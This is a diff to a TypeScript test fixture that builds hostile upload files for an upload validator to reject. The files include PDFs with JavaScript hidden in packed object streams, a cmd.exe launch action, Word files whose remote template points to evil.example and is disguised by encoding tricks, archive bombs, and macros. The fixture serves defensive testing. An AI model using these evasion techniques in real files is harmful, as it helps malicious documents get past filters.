@@ -2,7 +2,9 @@ import type { UploadPurpose } from '#core/upload.ts'
 import { anObjectStream, anOffice, anOle, aPdf, aPicture, aPngOf, aZip } from './files.ts'
 
 /** A file that must never be kept, sent as a purpose under a name. */
-export type HostileFile = { purpose: UploadPurpose; what: string; name: string; make: () => Buffer | Promise<Buffer> }
+/** Files of records are judged like a CV. */
+type Purpose = Exclude<UploadPurpose, 'record'>
+export type HostileFile = { purpose: Purpose; what: string; name: string; make: () => Buffer | Promise<Buffer> }
 
 type Entry = [what: string, name: string, make: () => Buffer | Promise<Buffer>]
 
@@ -10,6 +12,13 @@ const megabyte = 1024 * 1024
 const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
 const external =
   '<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+const relations = (data: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
+  anOffice('docx', { more: [{ name, data }] })
+const relationsOf = (one: string) => relations(`<Relationships>${one}</Relationships>`)
+const manyRelations = Array.from({ length: 900 }, (_, i) => ({
+  name: `word/_rels/${i}.rels`,
+  data: `<Relationships>${' '.repeat(20_000)}</Relationships>`,
+}))
 const jpegMagic = Buffer.from('ffd8ffe0', 'hex')
 const html = Buffer.from('<html><script>alert(1)</script></html>')
 const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
@@ -54,6 +63,47 @@ const cvs: Entry[] = [
     'cv.pdf',
     () => aPdf({ extra: anObjectStream('5 0 << /#4A#53 (x) >>') }),
   ],
+  [
+    'a script in a packed object behind a text',
+    'cv.pdf',
+    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { more: '/P ( obj)' }) }),
+  ],
+  [
+    'a script in a packed object with a long head',
+    'cv.pdf',
+    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { more: `/P ${' '.repeat(700)} 1` }) }),
+  ],
+  [
+    'a script in a packed object of another spelling',
+    'cv.pdf',
+    () => aPdf({ extra: anObjectStream(`5 0 ${js}`).replace('9 0 obj', '9 0\nobj').replace('/ObjStm', '/Obj#53tm') }),
+  ],
+  [
+    'a script in an object packed twice',
+    'cv.pdf',
+    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { filter: '[/ASCIIHexDecode /FlateDecode]' }) }),
+  ],
+  [
+    'a script in an object whose packing is told elsewhere',
+    'cv.pdf',
+    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { filter: '7 0 R' }) }),
+  ],
+  [
+    'a packed object that breaks off',
+    'cv.pdf',
+    () =>
+      aPdf({
+        extra: anObjectStream(`5 0 ${js}`)
+          .replace('\nendstream', '')
+          .replace(/.{20}$/s, '\nendstream'),
+      }),
+  ],
+  [
+    'packed objects one in the other',
+    'cv.pdf',
+    () => aPdf({ extra: `${'9 0 obj\n<< /Type /ObjStm >>\nstream\n'.repeat(1000)}${'x'.repeat(megabyte)}\nendstream` }),
+  ],
+  ['3000 packed objects', 'cv.pdf', () => aPdf({ extra: anObjectStream('5 0 <<>>').repeat(3000) })],
   ['a program to be launched', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj' })],
   ['a file in the file', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /Type /EmbeddedFile >>\nendobj' })],
   ['a list of files in it', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /EmbeddedFiles 6 0 R >>\nendobj' })],
@@ -78,6 +128,52 @@ const cvs: Entry[] = [
     'cv.docx',
     () => anOffice('docx', { more: [{ name: 'word/_rels/settings.xml.rels', data: external }] }),
   ],
+  [
+    'a template that calls itself a link in its address',
+    'cv.docx',
+    () => relations(external.replace('t.dotm', 'relationships/hyperlink')),
+  ],
+  [
+    'a template by another prefix',
+    'cv.docx',
+    () => relations(external.replaceAll('<Relationship', '<ş:Relationship').replaceAll('</', '</ş:')),
+  ],
+  ['a template from &#69;xternal', 'cv.docx', () => relations(external.replace('"External"', '"&#00000069;xternal"'))],
+  ['a template behind a sign in a text', 'cv.docx', () => relations(external.replace('Type=', 'Id="a>b" Type='))],
+  ['a template that cannot be read', 'cv.docx', () => relationsOf('<Relationship Type=x TargetMode="External"/>')],
+  ['a thousand relations that never end', 'cv.docx', () => relationsOf('<Relationship '.repeat(1000))],
+  ['a template in other letters', 'cv.docx', () => relations(Buffer.from(`\uFEFF${external}`, 'utf16le'))],
+  [
+    'a template in letters of another name',
+    'cv.docx',
+    () => relations(`<?xml version="1.0" encoding="utf-7"?>${external.replaceAll('<', '+ADw-')}`),
+  ],
+  [
+    'a template in words of its own',
+    'cv.docx',
+    () => relations(`<!DOCTYPE r [<!ENTITY e "External">]>${external.replace('"External"', '"&e;"')}`),
+  ],
+  ['a template in CAPITALS', 'cv.docx', () => relations(external, 'word/_rels/SETTINGS.XML.RELS')],
+  [
+    'a second list of types',
+    'cv.docx',
+    () => anOffice('docx', { more: [{ name: '[content_types].xml', data: '<Types/>' }] }),
+  ],
+  [
+    'parts that share their bytes',
+    'cv.docx',
+    () =>
+      anOffice('docx', {
+        more: Array.from({ length: 900 }, (_, i) => ({ name: `a${i}.xml`, data: '', placeOf: 2, unpackedSays: 1 })),
+      }),
+  ],
+  [
+    'relations of 2 MB as they stand',
+    'cv.docx',
+    () =>
+      anOffice('docx', { more: [{ name: 'a.rels', data: ' '.repeat(2 * megabyte), isStored: true, unpackedSays: 1 }] }),
+  ],
+  ['relations of 18 MB in all', 'cv.docx', () => anOffice('docx', { more: manyRelations })],
   ['a sheet under the name of a text', 'cv.docx', () => anOffice('xlsx')],
   ['any archive', 'cv.docx', () => aZip([{ name: 'a.txt', data: 'x' }])],
   ['an archive that says it has nothing', 'cv.docx', () => aZip([{ name: 'a.txt', data: 'x' }], { countSays: 0 })],
@@ -103,6 +199,7 @@ const cvs: Entry[] = [
   ['a locked archive', 'cv.docx', () => anOffice('docx', { more: [{ name: 'word/a.xml', data: 'x', flags: 1 }] })],
   ['half an archive', 'cv.docx', () => anOffice('docx').subarray(0, 150)],
   ['an old document with macros', 'cv.doc', () => anOle(['Root Entry', 'WordDocument', 'Macros'])],
+  ['an old document with macros in small letters', 'cv.doc', () => anOle(['Root Entry', 'WordDocument', 'macros'])],
   [
     'an old sheet with a project',
     'cv.xls',
@@ -133,7 +230,7 @@ const documents: Entry[] = [
   ['a name of a picture', 'belge.pdf.jpg', () => aPdf()],
 ]
 
-const of = (purpose: UploadPurpose, entries: Entry[]): HostileFile[] =>
+const of = (purpose: Purpose, entries: Entry[]): HostileFile[] =>
   entries.map(([what, name, make]) => ({ purpose, what, name, make }))
 
 /** The corpus: wrong first bytes, two kinds in one, bombs, macros, scripts, names that deceive. */
